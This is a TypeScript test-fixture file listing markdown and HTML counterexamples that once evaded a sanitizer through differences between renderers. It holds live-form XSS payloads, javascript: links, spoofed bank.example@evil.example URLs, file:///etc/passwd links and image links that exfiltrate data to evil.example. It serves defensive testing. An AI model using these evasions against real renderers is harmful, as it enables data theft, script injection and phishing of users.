import type { ContentKind } from "../finding.js";

/**
 * Texts that passed once although a renderer or a browser makes something of them, and what is found in them now. Each
 * was found by a review or by a property; one that is found again belongs here.
 */
export const COUNTEREXAMPLES: readonly (readonly [ContentKind, string])[] = [
  // marked leaves references to the browser, which needs no semicolon and counts no zeros.
  ["images", "![a](&#47&#47evil.example/x)"],
  ["images", `![a](&#${"0".repeat(70)}47;/evil.example/x)`],
  ["images", "![a](&#x2F/evil.example/x)"],
  ["images", "![a](/&#x2F;evil.example/x)"],
  ["images", "![a](&amp#47/evil.example/x)"],
  ["images", "![a](&amp;#47;/evil.example/x)"],
  ["links", "[a]: &#47/evil.example\n\n![a]"],
  ["links", "[a](java&#115cript:x)"],
  ["links", "[a](&#106avascript:x)"],
  ["links", "[a]: javascript&colon;x"],
  // Renderers differ in what ends an authority, and browsers take nearly anything for a name before the host.
  ["links", 'https://bank.example"@evil.example'],
  ["links", "https://bank.example)@evil.example"],
  ["links", "https://bank.example]@evil.example"],
  ["links", "https://bank.example<@evil.example"],
  ["links", "[a](https://bank.example'@evil.example)"],
  ["links", "[a](https://bank.example<@evil.example)"],
  ["links", "[a](https://bank.example()@evil.example)"],
  ["links", "[a](<https://bank.example @evil.example>)"],
  ["links", "[a](<https://bank.example\t@evil.example>)"],
  ["links", "[a](<ht\ttps://bank.example@evil.example>)"],
  ["links", "[a](https:/\\/bank.example@evil.example)"],
  ["links", "[a](https:\\\\/bank.example@evil.example)"],
  ["links", "[a]( //bank.example@evil.example)"],
  ["links", "[a]\n\n[a]: //bank.example@evil.example"],
  ["links", "www.bank.example@evil.example"],
  ["links", "see //bank.example@evil.example"],
  ["links", "www.ba\\nk.example)@evil.example"],
  ["links", '`<a href="http://bank.example():x@evil.example">x'],
  // remark makes links of text once it is decoded.
  ["links", "&#104;ttps://bank.example@evil.example"],
  ["links", "https&colon;//bank.example@evil.example"],
  ["links", "https:\\/\\/bank.example@evil.example"],
  ["links", "&htt&#x0070;://bank.example@evil.example"],
  ["links", "http&#58;//bank.example<@evil.example"],
  ["links", "www&period;bank.example&#X40;evil.example"],
  ["links", "www&period;bank.example&#64evil.example"],
  // Schemes in references and between angle brackets.
  ["links", "<file:///etc/passwd>"],
  ["links", "[a]: file:///etc/passwd"],
  ["links", "[a][1]\n\n[1]: ms-msdt:/id"],
  ["links", "<vscode://file/etc/passwd>"],
  ["images", "![a](<file: //x>)"],
  // rehype-raw takes what follows a dot in a name for a class.
  ["markup", "<p>\n<b.cover>text"],
  ["markup", "<p>\n<b#cover>text"],
  // To markdown-it a fence with a bar is the head of a table.
  ["images", "```a|\n---\n![a](https://evil.example/?d=secret)"],
  ["markup", "~~~|\n|---|\n<img src=x onerror=alert(1)>"],
  ["images", "> ```a\\|\n> ---\n> ![a](https://evil.example/?d=secret)"],
  ["images", "- ~~~a|b\n  -|-\n  ![a](https://evil.example/?d=secret)"],
  // A line of white space with a tab ends no paragraph to marked, and one with a byte order mark is text.
  ["images", "Look:\n\t\n\t![a](https://evil.example/?d=secret)"],
  ["markup", "Look:\n\t\n    <img src=x onerror=alert(1)>"],
  ["markup", "Look:\r\n\t\r\n    <img src=x onerror=alert(1)>"],
  ["images", "![a\n\t\n](//e.x)"],
  ["images", "![a\r\n \t\r\n](//e.x)"],
  ["markup", "x <img\n\t\nsrc=//e.x>"],
  ["links", "x\n  \t\n    [a](javascript:x)"],
  ["markup", "Look:\n\uFEFF\n    <img src=x onerror=alert(1)>"],
  ["markup", "x <img\n\uFEFF\nsrc=//e.x>"],
  // marked escapes nothing behind `<kbd>`, and does not see each of its ends.
  ["markup", "Press <kbd>x \\</kbd> <img ' src=x onerror=alert(1)>"],
  ["markup", "Press <kbd>Enter\n\n</kbd>\n\nThen <img ' src=x onerror=alert(document.cookie)>"],
  ["markup", "`` <kbd> `</kbd>` <img ' src=//evil.example/x>"],
  ["markup", "[<kbd>](/x '</kbd>') <img ' src=//evil.example/x>"],
  ["markup", "<kbd> [a](</kbd>) <img ' src=//evil.example/x>"],
  ["markup", "<kbd> <!-- </kbd> --> <img ' src=//evil.example/x>"],
  ["markup", "<kbd>\n\n[a]: </kbd>\n\n<img ' src=//evil.example/x>"],
  ["markup", "<kbd>x</kbd/> <img ' src=//evil.example/x>"],
  ["markup", "x <kbd\u00A0> <img ' src=//e.x>"],
  ["markup", "x <kbd\u3000> <img ' src=//e.x>"],
  ["markup", "x <kbd\uFEFF> <img ' src=//e.x>"],
  ["markup", "x <kbd\u2028> <img ' src=//e.x>"],
  // It reads a quote that ends with a list or a quote again, and then what stands before `<kbd>` is not escaped either.
  ["markup", "> - x <img ' src=//e.x> <kbd>\ny"],
  ["markup", "> > x <img ' src=//e.x> <kbd>\nx\n> y"],
  ["markup", "- [ ] > - x <img ' src=//e.x> <kbd>\ny"],
  // A text begins behind anything that ends an element, and behind an escape.
  ["links", "_Login_//bank.example@evil.example/login"],
  ["links", "x\\://bank.example@evil.example/login"],
  ["links", "ftp://bank.example@evil.example/x"],
  ["markup", "`<a href=/x attributionsrc=//evil.example>x</a>`"],
  ["links", "[a]\n\n[a]: search:query=x"],
  // A mark without white space indents nothing.
  ["images", "Totals:\n\n2024![a](https://evil.example/?d=secret)"],
  ["markup", "Totals:\n\n   -<img src=https://evil.example/x onerror=alert(1)>"],
  ["links", "Totals:\n\n1234 [x](javascript:alert(1))"],
  // To marked other marks may follow a closing fence, and a tab may not.
  ["images", "```\nx\n```~\n![a](https://evil.example/?d=secret)"],
  ["images", "~~~\nx\n~~~`\n![a](https://evil.example/?d=secret)"],
  ["images", "```\nx\n```\t\n```\n![a](https://evil.example/?d=secret)"],
  // A byte order mark before a fence makes it text.
  ["images", "a\n\uFEFF```\n![a](https://evil.example/?d=secret)"],
  // Which marks begin a list, and how far they indent, depends on the renderer.
  ["images", "x\n-\t~~~\n\t![a](https://evil.example/?d=secret)"],
  ["images", "x\n01. ```\n    ![a](https://evil.example/?d=secret)"],
  ["images", "- \t```\n\t![a](https://evil.example/?d=secret)"],
  ["links", "aa\n\n  2. \taa\n     ```\n     [a](javascript:x)"],
  ["images", "- a\n  \t~~~\n    ![a](https://evil.example/?d=secret)"],
  ["images", "- a\n2) ```\n   ![a](https://evil.example/?d=secret)"],
  ["images", "- a\n> ```\n> ![a](https://evil.example/?d=secret)"],
  // In a list marked adds indented code to the paragraph before it, and all indented code behind empty lines with it.
  ["images", "- aa\n      bb\n\n      ```\n      ![a](https://evil.example/?d=secret)"],
  // Only one interrupts indented code to micromark, which others take for a fence.
  ["images", "aa\n\n    ````\n    ````\n9. aa\n    ~~~\n    ![a](https://evil.example/?d=secret)"],
  ["images", "    5\n\n9) aa\n    ~~~\n    ![a](https://evil.example/?d=secret)"],
  // Behind a quote that ends with a list marked skips characters, and a fence with them.
  ["images", "> 9. aa\n9) bb\n> a\nc\n```\n![a](https://evil.example/?d=secret)"],
  ["images", "> 9. aa\n9) bb\n> a\nc\n\n```\n![a](https://evil.example/?d=secret)"],
  // A page that cuts white space off at the beginning sees another list.
  ["images", "\t\n * aa\n      ~~~\n      ![a](https://evil.example/?d=secret)"],
  ["images", "   - aa\n        ```\n        ![a](https://evil.example/?d=secret)"],
  // In a list marked 18 adds indented code to the lines before it, behind an empty line too.
  ["images", "- aa\n=\n\n      ~~~\n      ![a](https://evil.example/?d=secret)"],
  // A backtick in a tag opens no code.
  ["images", 'aa <b title="`">![`](//evil.example/)'],
  ["images", "- <b title='>`'>![`](//evil.example/)"],
  ["images", "aa <!--a>`-->![`](//evil.example/)"],
  // Behind an open bracket markdown-it 14 makes text of code, once a backtick follows that nothing closes.
  ["markup", "[ `<style>` * {} `"],
  ["markup", '![ `<b class="a">` aa `'],
  ["markup", "![`]<style>`[a]`"],
  // Every line of a quote has its mark, also within an address or a tag; renderers take it away.
  ["images", "> ![a](\n> https://evil.example/?d=secret)"],
  ["images", "![a]\n\n> [a]:\n> https://evil.example/?d=secret"],
  ["images", "- > > ![a](\n  > > //evil.example/?d=secret)"],
  ["links", "> [a](\n> javascript:alert(1))"],
  ["markup", "> aa <img\n> src=//evil.example/?d=secret>"],
  ["markup", "> aa <b\n> onclick\n> =alert(1)>b</b>"],
  ["markup", "> `<a href='java\n> script:alert(1)'>b</a>"],
  // Renderers also take away what indents a line of a paragraph.
  ["markup", "`<a href='java\n  script:alert(1)'>b</a>"],
  // To marked up to 15 a backtick directly behind a tilde opens no code.
  ["markup", "~`<style>` * { background: url(//evil.example/x) }"],
  // An address within another is a part of the name before the host, and so is `www.` itself.
  ["links", "https://bank.example,www.@evil.example/x"],
  ["links", "https://bank.example,https:@evil.example/x"],
  ["links", "www.bank.example)www.@evil.example/x"],
  ["links", "www.@evil.example/x"],
  // Behind a quote that goes on without its mark, the tag of marked's own paragraph ends the open one.
  ["markup", "> <p class=x \ntext"],
  // Pages trim a message, and white space of every script with it.
  ["markup", "\u2028<y>\n~~~\n<img src=//evil.example/x>"],
  ["markup", "\u3000>><i c=<kbd>\ny"],
  // A carriage return without a line feed ends a line, is white space or is removed: no code, no end of a tag.
  ["images", "```===\r   ![a](//evil.example/x)"],
  ["markup", "`<b class=\r\r\rx>t</b>"],
  ["markup", "- # <b\r  \r   \r   onclick=x>"],
  // These characters end a line to remarkable, and so a fence.
  ["images", "```\n*\u2028```\n![a](//evil.example/?d=secret)"],
  ["markup", "```\n*\u2424```\n<img src=//evil.example/x>"],
  ["images", "`a\u2028\u2028![a](//evil.example/?d=secret) `"],
  // markdown-to-jsx opens an element with an end tag.
  ["markup", "</bdo>\nelpmaxe.live ot og"],
  ["markup", "a\n\n</BDO >\nelpmaxe.live ot og"],
  // remarkable decodes percent escapes between angle brackets.
  ["images", "![a](<%68ttps://evil.example/x>)"],
  ["links", "[a](<%6Aavascript:x>)"],
  ["images", "![a](<%62lob:https://page.example/1>)"],
  // A tag that is never closed is text, with the appearance of the element before it.
  ["markup", "`<div class='fixed inset-0'><i lang='> Your session ended. Call us"],
  ["markup", "`<div class='fixed inset-0'><i Your session ended Call us"],
  ["markup", "`<bdo dir=rtl><b title='> elpmaxe.live ot og"],
  // An empty line ends no footnote to markdown-to-jsx.
  ["images", "[^1]: ![a\n\n  ](//evil.example/x)"],
  ["images", "[^1]: ![a `]` b\n\n  ](//evil.example/x)"],
  ["links", "[^1]: [a\n\n  ](javascript:alert(1))"],
  // remarkable writes a space for a no-break space, and a line feed for its symbol.
  ["markup", "<img\u00A0src=//evil.example/x>"],
  ["markup", "<img\u00A0src=//evil.example/x\u00A0onerror=alert(1)>"],
  ["markup", "aa <b\u00A0onclick=alert(1)>b</b>"],
  ["markup", "aa <b title=a\u00A0onclick=alert(1)>b</b>"],
  ["markup", "aa <b title='a'\u00A0onclick=alert(1)>b</b>"],
  ["markup", "<img\u2424src=//evil.example/x>"],
  ["markup", "<dialog\u00A0open>text"],
  ["images", "![a](\u2424//evil.example/x)"],
  ["links", "[a](\u2424javascript:x)"],
  // showdown allows white space before the address.
  ["images", "![a] (//evil.example/x)"],
  ["images", "![a]\t (//evil.example/x)"],
  ["images", "![a] (https://evil.example/?d=secret)"],
  ["links", "[a] (javascript:alert(1))"],
  ["links", "[a] (https://bank.example@evil.example)"],
  // An escaped bracket ends a label of markdown-to-jsx.
  ["images", "![a\\](//evil.example/x)"],
  ["links", "[a\\](javascript:alert(1))"],
  // It reads an autolink over lines.
  ["links", "<java\nscript:alert(1)>"],
  ["links", "<https://bank.example\n@evil.example>"],
  // A tag in a block of HTML goes on behind the block: its quotation ends in the address of a link.
  ["markup", '<div title="\n\n[a](/onclick=alert(1)//)'],
  ["markup", "<p lang='\n\n# a\n\n![b](/x)\n\n[a](/onclick=alert(1)//)"],
  ["markup", '<!-- a --><div title="\n[a](/onclick=alert(1)//)'],
  ["markup", '- <div title="\n\n[a](/onclick=alert(1)//)'],
  ["markup", '- <div title="\n[a](/onclick=alert(1)//)'],
  ["markup", '> <div title="\n\n[a](/onclick=alert(1)//)'],
  ["markup", '<div class="fixed inset-0\n\n[a](/x)\n\nYour session ended'],
  ["markup", "<div class=fixed\n\nYour session ended"],
  ["markup", '<div class="fixed"\n\nYour session ended'],
  // markdown-to-jsx needs no white space behind the name of an element.
  ["markup", "<bclass='fixed inset-0'>Your session ended</b>"],
  ["markup", "aa <blockquoteclassName='fixed'>Your session ended</blockquote>"],
];

/** The same, where a page shows no less than an event: code that is never closed is text. */
export const COUNTEREXAMPLES_BY_EVENT: readonly (readonly [ContentKind, string])[] = [
  ["images", "`![a](https://evil.example/?d=secret)\n\nUse `ls`."],
  ["markup", "` <script>alert(1)</script>\n\n`ok`."],
  ["links", "`[a](javascript:x)\n\n`ok`."],
  ["links", "`[a](javascript:x)|` `ok`."],
  ["images", "![`]\n\n[`]: https://evil.example/?d=secret`y"],
  ["links", "[`]: javascript:alert(1)`y\n\n[`]"],
  ["links", "[a\n`]: javascript:alert(1)`y"],
  ["images", "> 9. aa\n9) bb\n> a\nc\n`![a](https://evil.example/?d=secret)`"],
  // Renderers differ in whether a label or code ends first.
  ["markup", "![``]()<img src=//evil.example/>``"],
  ["markup", ")[``<img src=//evil.example/>](``)"],
  ["images", "``a``[`![a](//evil.example/)`[`"],
  ["markup", "~`<img src=//evil.example/x>`"],
];
